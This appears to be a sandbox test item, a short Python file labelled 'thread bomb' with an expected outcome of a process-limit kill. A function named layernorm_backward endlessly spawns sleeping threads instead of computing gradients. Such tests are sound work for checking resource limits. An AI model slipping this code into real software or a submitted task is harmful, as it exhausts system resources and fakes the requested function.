# tries: start threads for ever
# item: thread bomb
# outcome: process_limit
import threading
import time


def layernorm_backward(x, gamma, dy, eps):
    while True:
        threading.Thread(target=time.sleep, args=(99,)).start()
